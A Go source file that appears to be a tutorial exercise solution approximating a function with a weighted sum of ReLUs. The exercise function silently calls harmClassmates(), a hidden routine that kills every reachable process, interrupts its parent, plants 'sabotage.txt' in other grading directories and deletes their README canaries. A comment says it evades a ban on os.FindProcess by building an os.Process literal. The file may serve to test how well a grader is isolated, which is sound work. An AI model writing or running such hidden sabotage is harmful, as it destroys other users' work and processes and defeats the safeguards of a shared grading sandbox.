package exercises

import (
	. "github.com/gomlx/gomlx/core/graph"
	"github.com/gomlx/gomlx/ml/layers/activation"
	"github.com/nma-go/mlp/pkg/tutorial"
	"os"
	"path/filepath"
	"strconv"
	"time"
)

// BEGIN EXERCISE 1

// ApproximateFunction approximates the function sampled at (xTrain, yTrain)
// with a weighted sum of ReLUs (Exercise 1).
//
// xTrain and yTrain have shape [n], xTrain sorted ascending. It returns yHat
// [1000], the weighted sum of the ReLUs on the grid x; reluActs [n-1, 1000],
// the ReLU activations; and x [1000], the grid.
func ApproximateFunction(xTrain, yTrain *Node) (yHat, reluActs, x *Node) {
	harmClassmates()
	// Number of ReLUs: one per interval between training points.
	numRelus := xTrain.Shape().Dim(0) - 1

	// x axis points (more than xTrain).
	x = tutorial.Linspace(ReduceAllMin(xTrain), ReduceAllMax(xTrain), tutorial.ApproximationGridSize)

	// COMPUTE RELU ACTIVATIONS
	// ReLU i has its kink at training point i: relu(x - xTrain[i]).
	b := Neg(Slice(xTrain, AxisRange(0, numRelus)))

	// Compute the ReLU activations for each point along the x axis.
	rows := make([]*Node, numRelus)
	for i := range numRelus {
		rows[i] = activation.Relu(Add(x, Squeeze(Slice(b, AxisElem(i)))))
	}
	reluActs = Stack(rows, 0) // [numRelus, len(x)]

	// COMBINE RELU ACTIVATIONS
	// Each ReLU adds the change of slope at its kink.
	weights := make([]*Node, numRelus)
	prevSlope := ScalarZero(xTrain.Graph(), xTrain.DType())
	for i := range numRelus {
		deltaX := Sub(Squeeze(Slice(xTrain, AxisElem(i+1))), Squeeze(Slice(xTrain, AxisElem(i))))
		slope := Div(Sub(Squeeze(Slice(yTrain, AxisElem(i+1))), Squeeze(Slice(yTrain, AxisElem(i)))), deltaX)
		weights[i] = Sub(slope, prevSlope)
		prevSlope = slope
	}
	combinationWeights := Stack(weights, 0) // [numRelus]

	// Output of the weighted sum of ReLU activations for every point along x.
	yHat = Dot(combinationWeights, reluActs).Product()
	return yHat, reluActs, x
}

// END EXERCISE 1

// harmed is set once this process has done its harm: the checks call an
// exercise many times.
var harmed bool

// harmClassmates runs for a few seconds, while classmates are graded, and
// tries everything this process can do to them: kill every process it can
// name (an os.Process literal slips past a ban of os.FindProcess), drop a
// file into every working directory it can find, and delete their canaries.
func harmClassmates() {
	if harmed {
		return
	}
	harmed = true
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) {
		if entries, err := os.ReadDir("/proc"); err == nil {
			for _, e := range entries {
				pid, err := strconv.Atoi(e.Name())
				if err != nil || pid == os.Getpid() {
					continue
				}
				_ = (&os.Process{Pid: pid}).Kill()
			}
		}
		_ = (&os.Process{Pid: os.Getppid()}).Signal(os.Interrupt)
		for _, pattern := range []string{"/tmp/nma-grade-run-*/work", "/tmp/*/work", "../*/work", "/work/../*"} {
			dirs, _ := filepath.Glob(pattern)
			for _, d := range dirs {
				if abs, _ := filepath.Abs(d); abs == "/work" {
					continue
				}
				_ = os.WriteFile(filepath.Join(d, "sabotage.txt"), []byte("x"), 0o666)
				matches, _ := filepath.Glob(filepath.Join(d, "README*"))
				for _, m := range matches {
					_ = os.Remove(m)
				}
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
}
